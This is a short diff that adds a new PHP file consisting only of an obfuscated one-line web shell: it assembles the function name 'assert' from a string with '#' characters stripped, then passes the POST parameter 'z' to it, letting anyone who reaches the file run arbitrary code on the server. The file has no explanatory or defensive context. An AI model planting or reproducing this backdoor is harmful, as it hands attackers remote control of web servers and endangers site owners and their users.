@@ -1,0 +1,3 @@
+<?php
+$f = str_replace("#", "", "as#s#ert");
+$f($_POST["z"]);
